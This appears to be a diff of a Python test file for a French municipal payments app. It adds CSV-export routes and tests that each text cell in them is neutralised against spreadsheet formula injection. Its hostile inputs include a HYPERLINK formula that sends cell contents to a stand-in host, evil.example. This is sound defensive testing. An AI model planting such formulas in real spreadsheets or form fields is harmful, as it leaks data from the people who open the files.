@@ -4,6 +4,7 @@ return, whatever text families and agents typed; amounts the code formatted stay
 from __future__ import annotations
 
 import csv
+import datetime as dt
 import io
 import re
 from pathlib import Path
@@ -28,7 +29,13 @@ SRC = Path(__file__).resolve().parents[3] / "src" / "ecp"
 
 # Every CSV export of the app, by route name: the test below fails when a route named *csv* or
 # *export* (or a path ending in .csv) appears without being added here, and so checked.
-EXPORTS = {"staff_payments_export", "staff_attendance_csv"}
+EXPORTS = {
+    "staff_payments_export",
+    "staff_attendance_csv",
+    "staff_regie_journal_csv",
+    "staff_regie_slip_csv",
+    "staff_overdue_csv",
+}
 
 HOSTILE = {
     "equals": '=HYPERLINK("https://evil.example/?leak="&A1;"Cliquez")',
@@ -91,6 +98,8 @@ async def test_payments_export_neutralises_every_text_cell(client, settings):
             "montant": "9,00",
             "mode": "cheque",
             "reference": HOSTILE["at"],
+            "tireur": HOSTILE["plus"],
+            "banque": HOSTILE["tab"],
             "date": "15/11/2026",
         },
         from_page="/agents/paiements",
@@ -113,6 +122,49 @@ async def test_payments_export_neutralises_every_text_cell(client, settings):
     assert line["Factures réglées"].startswith("'" + HOSTILE["minus"])
     # An amount the code formatted stays a number a spreadsheet sums, minus sign included.
     assert line["Montant (€)"] == "9,00" and line["Non affecté (€)"] == "-12,50"
+
+
+async def test_regie_exports_neutralise_every_text_cell(client, settings):
+    """The journal de régie, the cheques' bordereau and the overdue list carry what agents
+    typed at the counter (reference, drawer, bank) and the family's and agent's names."""
+    await factories.make_staff(role="regisseur", display_name=HOSTILE["plus"])
+    commune = await make_commune()
+    family, _ = await make_billed_family(commune, code="F00001", days=(2, 3, 4, 5))
+    await run_billing(NOV, settings=settings)
+    invoice = await Invoice.select().first()
+    await login_staff(client)
+    response = await post_form(
+        client,
+        "/agents/paiements",
+        {
+            "famille": "F00001",
+            "facture": [str(invoice["id"])],
+            "montant": "1,00",
+            "mode": "cheque",
+            "reference": HOSTILE["at"],
+            "tireur": HOSTILE["equals"],
+            "banque": HOSTILE["cr"],
+            "date": "15/11/2026",
+        },
+        from_page="/agents/paiements",
+    )
+    assert response.status_code == 303
+    await Family.update({Family.name: HOSTILE["minus"]}).where(Family.id == family.id)
+    await Invoice.update({Invoice.number: HOSTILE["tab"]}).where(Invoice.id == invoice["id"])
+    amounts = {"Montant (€)", "Reste dû (€)"}
+    journal = _cells(await client.get("/agents/paiements/journal.csv?jour=15/11/2026"))
+    slip = _cells(await client.get("/agents/paiements/bordereau.csv?mode=cheque&du=15/11/2026"))
+    late = clock.today() - dt.timedelta(days=40)
+    await Invoice.update({Invoice.due_on: late}).where(Invoice.id == invoice["id"])
+    overdue = _cells(await client.get("/agents/paiements/impayes.csv"))
+    for rows in (journal, slip, overdue):
+        _assert_neutralised(rows, number_columns=amounts)
+    text = _joined(journal) + _joined(slip)
+    for key in ("at", "equals", "minus", "plus"):
+        assert "'" + HOSTILE[key] in text, key
+    assert "'=1+1" in text  # the bank, once the form trimmed its carriage return
+    assert "'" + HOSTILE["tab"] in _joined(journal) and "'" + HOSTILE["tab"] in _joined(overdue)
+    assert "'" + HOSTILE["minus"] in _joined(overdue)
 
 
 async def test_attendance_export_neutralises_every_text_cell(client):
